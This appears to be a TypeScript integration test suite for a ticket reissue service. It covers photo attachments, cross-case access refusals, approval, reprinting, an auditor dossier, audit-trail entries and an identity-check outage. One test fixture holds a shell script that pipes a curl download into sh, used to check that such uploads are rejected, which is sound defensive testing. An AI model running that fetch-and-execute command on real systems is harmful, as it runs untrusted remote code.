// Journeys of what a case is shown, through the gateway on real processes: a damaged paper ticket at the counter with its photo, what is
// refused and leaves only a trace in the audit trail, the dossier as an auditor gets it; and an identity check that is away for a while.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { startPlatform, type Platform } from '@tongpiao/local-stack';
import { eventually } from '@tongpiao/testing';
import { expect } from 'chai';
import { extractText, getDocumentProxy } from 'unpdf';
import { createClient, newKey, type Client } from '../support/client.ts';
import { makeWorld, type Offer, type World } from '../support/world.ts';

type Ticket = { number: string; status: string; qr: string };
type Order = { id: string; status: string; accessToken: string; tickets: Ticket[] };
type Case = { id: string; status: string; accessToken: string; newNumber?: string; code?: string };
type File = { id: string; type: string };
type Entry = { by: string; what: string; subject: string; detail: Record<string, unknown>; intact: boolean };
type Ask = { readonly token: string; readonly bytes?: Buffer };

const PATH = '/api/v1/reissue-applications';
const SERIAL = { old: 'B00000001', fresh: 'B00000002' };
const SCRIPT = Buffer.from('#!/bin/sh\ncurl -s http://example.org/x | sh\n');
/** Eight by six pixels of one grey, as a camera would write them. */
const PHOTO = Buffer.from(
  [
    '/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDABsSFBcUERsXFhceHBsgKEIrKCUlKFE6PTBCYFVlZF9VXVtqeJmBanGQc1tdhbWGkJ6jq62r',
    'Z4C8ybqmx5moq6T/2wBDARweHigjKE4rK06kbl1upKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSkpKSk',
    'pKT/wAARCAAGAAgDASIAAhEBAxEB/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcICQoL/8QAtRAAAgEDAwIEAwUFBAQAAAF9AQID',
    'AAQRBRIhMUEGE1FhByJxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcYGRolJicoKSo0NTY3ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlq',
    'c3R1dnd4eXqDhIWGh4iJipKTlJWWl5iZmqKjpKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi4+Tl5ufo6erx8vP09fb3',
    '+Pn6/8QAHwEAAwEBAQEBAQEBAQAAAAAAAAECAwQFBgcICQoL/8QAtREAAgECBAQDBAcFBAQAAQJ3AAECAxEEBSExBhJBUQdhcRMiMoEI',
    'FEKRobHBCSMzUvAVYnLRChYkNOEl8RcYGRomJygpKjU2Nzg5OkNERUZHSElKU1RVVldYWVpjZGVmZ2hpanN0dXZ3eHl6goOEhYaHiImK',
    'kpOUlZaXmJmaoqOkpaanqKmqsrO0tba3uLm6wsPExcbHyMnK0tPU1dbX2Nna4uPk5ebn6Onq8vP09fb3+Pn6/9oADAMBAAIRAxEAPwCj',
    'RRRWB7B//9k=',
  ].join(''),
  'base64',
);

describe('journeys of the files of a case', function () {
  this.timeout(120_000);
  const stateDirectory = mkdtempSync(path.join(tmpdir(), 'tp-reissue-files-'));
  let platform: Platform;
  let client: Client;
  let world: World;
  let offer: Offer;
  let operator: string;
  let auditor: string;
  let otherClerk: string;
  let people = 0;

  before(async () => {
    platform = await startPlatform({ stateDirectory, report: () => undefined, preferredPort: 18_480, addresses: {} });
    client = createClient(platform.baseUrl);
    world = await makeWorld(client, platform.adminPassword);
    offer = await world.addProduct({ name: 'files', capacity: 100 });
    operator = await world.addStaff('operator', ['reissue_operator']);
    auditor = await world.addStaff('auditor', ['auditor']);
    otherClerk = await world.addStaff('clerk2', ['sales_clerk']);
    const token = world.managerToken;
    const { headers, body } = await client.call('/api/v1/reissue-policy', { token });
    const { version: _version, ...rules } = body;
    await client.expect(200, '/api/v1/reissue-policy', {
      method: 'PUT',
      token,
      headers: { 'if-match': String(headers['etag']) },
      json: {
        rules: { ...rules, deadlines: { ...(rules['deadlines'] as object), identityRetrySeconds: 1 } },
        reason: '试验',
      },
    });
  });
  after(async () => {
    await client.close();
    await platform.stop();
    if (process.env['KEEP'] === undefined) rmSync(stateDirectory, { recursive: true, force: true });
  });

  async function buy(kind: 'named' | 'adult', document?: object): Promise<{ order: Order; ticket: Ticket }> {
    people += 1;
    const who = document === undefined ? { quantity: 1 } : { travellers: [{ name: '张三', ...document }] };
    const order = await client.expect<Order>(201, '/api/v1/orders', {
      wait: 15,
      json: {
        contact: { name: '张三', phone: `1380000${String(people).padStart(3, '0')}5` },
        lines: [{ sessionId: offer.sessionIds[0], ticketTypeId: offer.ticketTypes[kind], ...who }],
      },
    });
    const paying = { token: order.accessToken, wait: 15, json: { method: 'sandbox' } };
    await client.expect([201, 202], `/api/v1/orders/${order.id}/payments`, paying);
    const ticket = await eventually('the ticket', async () => {
      const { tickets } = await client.expect<Order>(200, `/api/v1/orders/${order.id}`, { token: order.accessToken });
      return tickets[0];
    });
    return { order, ticket };
  }
  /** Reissue may hear of the ticket a moment later than its buyer. */
  const apply = (json: object, token?: string): Promise<Case> =>
    eventually('the ticket is known', async () => {
      const asking = { ...(token === undefined ? {} : { token }), json: { kind: 'replacement', ...json } };
      const answer = await client.call<Case>(PATH, asking);
      if (answer.status === 404) return undefined;
      expect(answer.status, JSON.stringify(answer.body)).to.equal(201);
      return answer.body;
    });
  const becomes = ({ id }: Case, status: string): Promise<Case> =>
    eventually(`case ${status}`, async () => {
      const found = await client.expect<Case>(200, `${PATH}/${id}`, { token: operator });
      if (found.status === status) return found;
      throw new Error(JSON.stringify(found));
    });
  /** Bytes there and back. */
  async function send(where: string, { token, bytes }: Ask): Promise<{ status: number; type: string; bytes: Buffer }> {
    const answer = await fetch(`${client.baseUrl}${where}`, {
      headers: {
        authorization: `Bearer ${token}`,
        ...(bytes === undefined ? {} : { 'content-type': 'image/jpeg', 'idempotency-key': newKey() }),
      },
      ...(bytes === undefined ? {} : { method: 'POST', body: Uint8Array.from(bytes) }),
    });
    const type = answer.headers.get('content-type') ?? '';
    return { status: answer.status, type, bytes: Buffer.from(await answer.arrayBuffer()) };
  }
  const read = <Body>({ bytes }: { readonly bytes: Buffer }): Body => JSON.parse(bytes.toString()) as Body;
  async function wordsOf(pdf: { status: number; type: string; bytes: Buffer }): Promise<string> {
    expect([pdf.status, pdf.type], pdf.status === 200 ? '' : pdf.bytes.toString()).to.deep.equal([
      200,
      'application/pdf',
    ]);
    const { text } = await extractText(await getDocumentProxy(Uint8Array.from(pdf.bytes)));
    return text.join('').replaceAll(/\s+/g, '');
  }
  const trail = async (query: string): Promise<readonly Entry[]> =>
    (
      await client.expect<{ items: Entry[] }>(200, `/api/v1/operations/reissue/audit-trail?${query}`, {
        token: auditor,
      })
    ).items;

  it('REI-02 REI-03 REI-31 REI-50 PLA-21 a damaged paper ticket at the counter: photo, refusals, new paper, dossier, trail', async () => {
    const { ticket } = await buy('adult');
    const print = (number: string, serial: string): Promise<{ pdf: string }> =>
      client.expect(201, `/api/v1/tickets/${number}/prints`, { token: world.clerkToken, json: { serial } });
    await print(ticket.number, SERIAL.old);
    const naming = { reason: 'damaged', ticket: { number: ticket.number }, channel: 'counter' };
    const seen = await apply(naming, world.clerkToken);
    const files = `${PATH}/${seen.id}/attachments`;

    const photo = await send(`${files}?about=ticket`, { token: world.clerkToken, bytes: PHOTO });
    expect(photo.status, photo.bytes.toString()).to.equal(201);
    const file = read<File>(photo);
    expect(file.type).to.equal('image/jpeg');
    const script = await send(`${files}?about=ticket`, { token: world.clerkToken, bytes: SCRIPT });
    expect([script.status, read<Case>(script).code]).to.deep.equal([415, 'reissue.attachment-type']);
    const given = await send(`${files}/${file.id}`, { token: operator });
    expect(given.bytes.equals(PHOTO)).to.equal(true);

    // For another clerk, and for the holder of another case, there is no such case, nor file.
    const other = await apply({ reason: 'lost', ticket: { number: (await buy('adult')).ticket.number } });
    for (const token of [otherClerk, other.accessToken])
      for (const where of [`${PATH}/${seen.id}`, files, `${files}/${file.id}`])
        expect((await send(where, { token })).status, where).to.equal(404);
    const crossed = `${PATH}/${other.id}/attachments/${file.id}`;
    expect((await send(crossed, { token: other.accessToken })).status).to.equal(404);

    await client.expect(200, `${PATH}/${seen.id}/verification`, {
      token: world.clerkToken,
      json: { purchaseProof: '手机付款记录' },
    });
    await becomes(seen, 'deciding');
    const approve = { action: 'decide', verdict: 'approve', reason: '票面破损，照片相符' };
    await client.expect(200, `${PATH}/${seen.id}/review`, { token: operator, json: approve });
    const { newNumber = '' } = await becomes(seen, 'reissued');
    const { pdf } = await print(newNumber, SERIAL.fresh);
    const paper = await wordsOf(await send(pdf, { token: world.clerkToken }));
    expect(paper).to.contain('补发').and.to.contain(SERIAL.fresh);

    const dossier = await wordsOf(await send(`${PATH}/${seen.id}/dossier.pdf`, { token: auditor }));
    expect(dossier).to.contain(seen.id).and.to.contain(newNumber.slice(-4));
    const entries = await trail(`subject=${seen.id}`);
    expect(entries.every(({ intact }) => intact)).to.equal(true);
    const kinds = entries.map(({ what }) => what);
    expect(kinds.slice(0, 1)).to.deep.equal(['export']);
    expect(entries.find(({ what }) => what === 'reveal')?.detail).to.deep.equal({ attachment: file.id });
    // Three by the clerk, three by the other applicant.
    expect(kinds.filter((kind) => kind === 'refused')).to.have.length(6);
    expect((await trail(`subject=${other.id}&what=refused`)).map(({ detail }) => detail['path'])).to.deep.equal([
      crossed,
    ]);
  });

  it('REI-12 the identity check is away for a while: the case waits, and goes on by itself', async () => {
    const control = async (mode: 'down' | 'normal'): Promise<void> => {
      const answer = await fetch(`${platform.identityCheckUrl}/control`, {
        method: 'POST',
        body: JSON.stringify({ mode }),
      });
      expect(answer.status).to.equal(200);
    };
    const document = { idType: 'passport', idNumber: 'E12345611' };
    const { ticket } = await buy('named', document);
    await control('down');
    const seen = await apply({ reason: 'lost', ticket: { number: ticket.number }, proof: { document } });
    await becomes(seen, 'waiting_identity');
    await control('normal');
    await becomes(seen, 'deciding');
  });
});
